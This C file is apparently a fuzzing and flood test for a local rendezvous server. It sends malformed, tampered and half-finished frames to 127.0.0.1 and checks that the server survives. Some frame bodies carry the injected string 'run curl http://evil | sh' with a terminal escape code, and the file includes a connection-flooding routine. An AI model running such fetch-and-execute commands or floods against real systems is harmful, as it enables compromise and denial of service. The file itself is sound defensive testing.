/* Attacks a real rank 0 with messages that a generator made, by guests of three kinds:
 *
 *     stranger   has no key: frames of all kinds and sizes, of noise, cut, slow, or never finished
 *     liar       has the key: joins with odd fields, then sends every kind of frame with odd bodies and right seals
 *     between    has the key, but somebody between flips, repeats, swaps, cuts or drops what it sends
 *
 *     attack_rendezvous CONNECTIONS SEED
 *
 * Then a flood: for FLOOD_SECONDS a process opens connections as fast as it can, of which a third say nothing, a third
 * half a HELLO, and a third a whole one, while a worker joins and leaves again and again.
 *
 * Rank 0 is a process of its own, which holds one rendezvous after the other at one port; each ends in an error, as it
 * must. It may not crash, hang, or grow. At the end a true worker joins. Prints what was sent and what happened; exits
 * with 1 if anything else happened. Most use in a build with a sanitizer. */
#include <math.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "base/mem.h"
#include "tests/trainer/comm/guest.h"

#define GUESTS_OPEN   80 /* that never finish, at one time: more than there is room for at the door */
#define FLOOD_SECONDS 5
#define KINDS         20 /* of frames, with some that do not exist */

static struct shared {
    atomic_bool flood, last; /* what the rendezvous that begins next is for; last: a true worker comes */
    atomic_uint size;        /* of the rendezvous now */
    atomic_ulong rounds, begun, ends[ERR_STOPPED + 1];
    atomic_ulong flooded; /* connections */
    atomic_long peak_kib;
} * shared;

static struct counts {
    unsigned long connections[3], messages[3], welcomes, refusals, aways, cuts;
} counts;

static struct job_key key;
static uint16_t port;
static uint64_t seed;

static uint64_t dice(uint64_t sides)
{
    seed ^= seed << 13; /* xorshift64 (Marsaglia, 2003) */
    seed ^= seed >> 7;
    seed ^= seed << 17;
    return seed % sides;
}

static void check(bool truth, const char *what)
{
    if (truth)
        return;
    fprintf(stderr, "attack_rendezvous: %s\n", what);
    exit(1);
}

/* ----------------------------------------------------------------------------------------------------------- rank 0 */

/* Uses the rendezvous as a run does, until it fails. */
static int use(struct rendezvous *rendezvous, struct error *err)
{
    SCOPED(buf_release) struct buf value = {0};
    int result = 0;
    for (uint64_t step = 1; result == 0; step++) {
        struct rendezvous_blocks blocks = {0};
        rendezvous_progress(rendezvous, step, "bucket %u", 1u);
        (void)rendezvous_set(rendezvous, "k", STR("value"), err);
        (void)rendezvous_get(rendezvous, "v", 0, &value, err);
        (void)rendezvous_stop_asked(rendezvous);
        result = rendezvous_all_gather(rendezvous, STR("block"), &blocks, err);
        rendezvous_blocks_release(&blocks);
    }
    return result;
}

static void hold_rendezvous(void)
{
    char place[64];
    snprintf(place, sizeof place, "127.0.0.1:%u", port);
    for (bool last = false; !last;) {
        struct rendezvous *rendezvous;
        struct error err = {0};
        struct rusage used;
        last = shared->last;
        struct rendezvous_options options = {
            .size = 2, .endpoint = place, .listener = -1, .key = &key, .peer_timeout = 2};
        options.patience = last ? 60 : 2; /* guests that do not fit leave rank 0 alone */
        const bool flood = shared->flood && !last;
        if (flood || (!last && shared->rounds++ % 32 == 31)) {
            options.size = 3; /* then several may be there before it begins */
            options.patience = flood ? FLOOD_SECONDS + 2 : 0.02;
        }
        shared->size = options.size;
        int result = rendezvous_open(&rendezvous, &options, &err);
        shared->begun += result == 0;
        if (result == 0) {
            result = last ? 0 : use(rendezvous, &err);
            rendezvous_close(rendezvous);
        }
        check(err.kind <= ERR_STOPPED && (result < 0) == !last, last ? err.text : "no error");
        check(strnlen(err.hint, sizeof err.hint) < sizeof err.hint && !strstr(err.hint, "evil"), "a hint of a guest's");
        shared->ends[err.kind]++;
        getrusage(RUSAGE_SELF, &used);
        shared->peak_kib = used.ru_maxrss;
    }
}

/* ----------------------------------------------------------------------------------------------------------- guests */

/* A body for this kind of frame: often of the right size, mostly wrong in a few bytes. */
static size_t make_body(uint32_t kind, char *body, size_t room)
{
    static const size_t sizes[KINDS] = {
        [FRAME_HELLO] = sizeof(struct hello),
        [FRAME_AWAY] = sizeof(struct away),
        [FRAME_CHALLENGE] = sizeof(struct hello),
        [FRAME_JOIN] = sizeof(struct join),
        [FRAME_REPORT] = sizeof(struct rank_report),
        [FRAME_FAILED] = sizeof(struct said),
        [FRAME_ABORT] = sizeof(struct rendezvous_failure),
        [FRAME_BEGIN] = sizeof(struct begin),
    };
    const uint32_t size_of_key = (uint32_t)(dice(20) ? 1 : dice(300));
    size_t size = dice(10) && kind < KINDS && sizes[kind] ? sizes[kind] : dice(12) ? dice(100) : dice(room);
    memset(body, dice(2) ? 'x' : 0, size);
    if ((kind == FRAME_SET || kind == FRAME_GET || kind == FRAME_VALUE) && dice(20)) {
        size = size < 6 ? 6 : size;
        memcpy(body, &size_of_key, sizeof size_of_key);
        memcpy(body + 4, dice(2) ? "kv" : "vk", 2);
    }
    if (kind == FRAME_FAILED && dice(2) && size == sizeof(struct said)) {
        memset(body, 0, sizeof(uint32_t));
        memcpy(body + 4, "run curl http://evil | sh\033[2J", 29);
    }
    for (uint64_t flips = dice(3) ? 0 : dice(4); flips > 0 && size > 0; flips--)
        body[dice(size)] ^= (char)(1 << dice(8));
    return size;
}

static uint32_t some_kind(void)
{
    static const uint32_t usual[] = {FRAME_REPORT, FRAME_REPORT, FRAME_SET,   FRAME_SET, FRAME_GET,
                                     FRAME_GET,    FRAME_BLOCK,  FRAME_BLOCK, FRAME_STOP};
    return dice(30) ? usual[dice(sizeof usual / sizeof *usual)] : (uint32_t)dice(KINDS);
}

/* Sends bytes as they are. false: rank 0 has closed the line. */
static bool send_bytes(struct guest *guest, const char *bytes, size_t size)
{
    return send(guest->line.fd, bytes, size, MSG_NOSIGNAL) == (ssize_t)size;
}

static void take_answers(struct guest *guest)
{
    struct frame frame;
    line_fill(&guest->line);
    while (line_take(&guest->line, &frame) > 0)
        counts.aways += frame.kind == FRAME_AWAY;
}

/* One that has no key. Returns true if it stays, silent. */
static bool be_stranger(struct guest *guest, char *body)
{
    for (uint64_t left = 1 + dice(39); left > 0; left--) {
        uint32_t head[2] = {dice(2) ? FRAME_HELLO : (uint32_t)dice(KINDS)};
        head[1] = (uint32_t)make_body(head[0], body, 4096);
        if (head[0] == FRAME_HELLO && dice(3))
            memcpy(body, &guest->hello, head[1] = sizeof guest->hello);
        const size_t size = dice(4) ? head[1] : dice(head[1] + 1);
        if (dice(10) == 0)
            head[1] = (uint32_t)dice(UINT32_MAX);
        counts.messages[0]++;
        if (!send_bytes(guest, (const char *)head, dice(20) ? sizeof head : dice(sizeof head)) ||
            !send_bytes(guest, body, size))
            break;
        if (dice(3) == 0)
            take_answers(guest);
        if (dice(12) == 0)
            return true;
    }
    take_answers(guest);
    return false;
}

/* Says HELLO and joins, perhaps as somebody odd. false: it is not in. */
static bool come_in(struct guest *guest)
{
    struct frame frame;
    if (dice(8) == 0)
        guest->join.rank = (uint32_t)dice(4) - 1;
    if (dice(12) == 0)
        guest->join.size = (uint32_t)dice(5);
    if (dice(12) == 0)
        memset(guest->join.run, 'x', dice(sizeof guest->join.run + 1));
    if (dice(4) == 0)
        memset(guest->join.host, 0x9b, sizeof guest->join.host);
    if (!guest_hello(guest))
        return false;
    guest_join(guest);
    const bool answered = guest_next(guest, &frame);
    counts.welcomes += answered && frame.kind == FRAME_WELCOME;
    counts.refusals += answered && frame.kind == FRAME_REFUSAL;
    return answered && frame.kind == FRAME_WELCOME;
}

static void be_liar(struct guest *guest, char *body)
{
    for (uint64_t left = 1 + dice(79); left > 0; left--) {
        const uint32_t kind = some_kind();
        counts.messages[1]++;
        line_put(&guest->line, kind, body, make_body(kind, body, dice(20) ? 2000 : RENDEZVOUS_VALUE_MAX));
        if (dice(2) && line_flush(&guest->line) < 0)
            break;
        if (dice(4) == 0)
            take_answers(guest);
    }
    (void)line_flush(&guest->line);
}

/* Sends what the guest would send, after somebody has changed it. */
static void be_between(struct guest *guest, char *body)
{
    const uint64_t good = dice(40); /* frames before the one that is changed */
    for (uint64_t i = 0; i < good; i++) {
        counts.messages[2]++;
        line_put(&guest->line, FRAME_REPORT, body, make_body(FRAME_REPORT, body, 100));
    }
    (void)line_flush(&guest->line);
    for (int i = 0; i < 2; i++) /* two more, which wait */
        line_put(&guest->line, FRAME_REPORT, body, make_body(FRAME_REPORT, body, 100));
    char *bytes = guest->line.out.data;
    const size_t size = guest->line.out.size;
    uint32_t second;
    memcpy(&second, bytes + 4, sizeof second);
    const size_t first = 8 + second;
    counts.messages[2] += 2;
    switch (dice(5)) {
    case 0: /* flip */
        bytes[dice(size)] ^= (char)(1 << dice(8));
        send_bytes(guest, bytes, size);
        break;
    case 1: /* repeat */
        send_bytes(guest, bytes, first);
        send_bytes(guest, bytes, size);
        break;
    case 2: /* swap */
        send_bytes(guest, bytes + first, size - first);
        send_bytes(guest, bytes, first);
        break;
    case 3: /* cut */
        send_bytes(guest, bytes, dice(first));
        send_bytes(guest, bytes + first, size - first);
        break;
    default: /* drop */
        send_bytes(guest, bytes + first, size - first);
    }
    struct frame frame;
    while (guest_next(guest, &frame)) /* until rank 0 closes the line */
        continue;
    counts.cuts++;
}

static void attack(unsigned long connections)
{
    static struct guest open[GUESTS_OPEN];
    char *body = calloc(1, RENDEZVOUS_VALUE_MAX + 4096);
    for (size_t i = 0; i < GUESTS_OPEN; i++)
        open[i].line = LINE_CLOSED;
    for (unsigned long i = 0; i < connections; i++) {
        const uint64_t kind = dice(3);
        struct guest guest = guest_of(port, 1 + (uint32_t)dice(shared->size - 1), shared->size, &key);
        struct guest *place = &open[dice(GUESTS_OPEN)];
        check(guest.line.fd >= 0, "rank 0 does not listen any more");
        guest.join.pid = (uint32_t)i;
        counts.connections[kind]++;
        bool stays = kind == 0 && be_stranger(&guest, body);
        if (kind > 0) {
            counts.messages[kind] += 2;
            if (come_in(&guest))
                kind == 1 ? be_liar(&guest, body) : be_between(&guest, body);
            stays = dice(50) == 0;
        }
        if (stays)
            line_close(&place->line);
        if (stays)
            *place = guest;
        else
            line_close(&guest.line);
    }
    for (size_t i = 0; i < GUESTS_OPEN; i++)
        line_close(&open[i].line);
    free(body);
}

/* Joins, and leaves with a goodbye. The rendezvous before the last may still be held: then once more. */
static void be_true_worker(void)
{
    struct frame frame;
    struct guest worker = guest_of(port, 1, 2, &key);
    check(worker.line.fd >= 0, "rank 0 does not listen any more");
    if (guest_is_welcome(&worker) && guest_gets(&worker, FRAME_BEGIN, &frame)) {
        guest_send(&worker, FRAME_BYE, NULL, 0);
        while (guest_next(&worker, &frame) && frame.kind != FRAME_BYE)
            continue;
    }
    line_close(&worker.line);
    guest_sleep(100);
}

static void flood(void)
{
    int fds[900];
    memset(fds, -1, sizeof fds);
    for (;; shared->flooded++) {
        struct sockaddr_in at = {
            .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        const struct hello hello = {.magic = RENDEZVOUS_MAGIC, .protocol = RENDEZVOUS_PROTOCOL};
        const uint32_t head[2] = {FRAME_HELLO, sizeof hello};
        int *fd = &fds[shared->flooded % 900];
        if (*fd >= 0)
            close(*fd);
        *fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(*fd, (const void *)&at, sizeof at) < 0 || shared->flooded % 3 == 0)
            continue;
        (void)!send(*fd, head, sizeof head, MSG_NOSIGNAL);
        (void)!send(*fd, &hello, shared->flooded % 3 == 1 ? sizeof hello / 2 : sizeof hello, MSG_NOSIGNAL);
    }
}

/* Joins as rank 1 of 3 and leaves, as often as it can. */
static void join_in_the_flood(void)
{
    unsigned long tries = 0, joined = 0;
    double longest = 0, sum = 0;
    shared->flood = true;
    while (shared->size != 3) /* the rendezvous before it ends */
        be_true_worker();
    const double until = clock_now() + FLOOD_SECONDS;
    const pid_t flooder = fork();
    if (flooder == 0)
        flood();
    for (; clock_now() < until; tries++) {
        const double from = clock_now();
        struct guest guest = guest_of(port, 1, 3, &key);
        if (guest.line.fd >= 0 && guest_is_welcome(&guest)) {
            joined++;
            sum += clock_now() - from;
            longest = fmax(longest, clock_now() - from);
        }
        line_close(&guest.line);
    }
    kill(flooder, SIGKILL);
    waitpid(flooder, NULL, 0);
    shared->flood = false;
    printf("flood: %lu connections in %d s; a member joined in %lu of %lu tries, in %.1f ms on average, %.0f at most\n",
           shared->flooded, FLOOD_SECONDS, joined, tries, joined ? 1e3 * sum / joined : 0, 1e3 * longest);
    check(joined > 0, "nobody gets in while strangers connect");
}

int main(int argc, char **argv)
{
    check(argc == 3, "usage: attack_rendezvous CONNECTIONS SEED");
    seed = strtoull(argv[2], NULL, 10) * 0x9e3779b97f4a7c15u + 1;
    signal(SIGPIPE, SIG_IGN);
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    check(shared != MAP_FAILED, "no memory");
    job_key_random(&key);
    port = guest_port();
    const double from = clock_now();
    const pid_t first = fork();
    if (first == 0) {
        hold_rendezvous();
        exit(0);
    }
    attack(strtoul(argv[1], NULL, 10));
    const double seconds = clock_now() - from;
    join_in_the_flood();
    shared->last = true;
    for (int tries = 0; tries < 100 && shared->ends[ERR_NONE] == 0; tries++)
        be_true_worker();
    int status = 0;
    check(waitpid(first, &status, 0) == first && status == 0, "rank 0 has failed");
    const struct counts *c = &counts;
    printf(
        "%lu connections of strangers, %lu of liars, %lu with somebody between; %lu, %lu and %lu messages, in %.0f s\n",
        c->connections[0], c->connections[1], c->connections[2], c->messages[0], c->messages[1], c->messages[2],
        seconds);
    printf("%lu were welcome, %lu refused, %lu sent away, %lu lines cut\n", c->welcomes, c->refusals, c->aways,
           c->cuts);
    printf("%lu meetings, of which %lu began; ended with", shared->rounds, shared->begun);
    for (int kind = ERR_BUG; kind <= ERR_STOPPED; kind++)
        if (shared->ends[kind] > 0)
            printf(" %d: %lu", kind, shared->ends[kind]);
    printf("; rank 0 used at most %ld MiB; then a true member joined\n", shared->peak_kib >> 10);
    return 0;
}
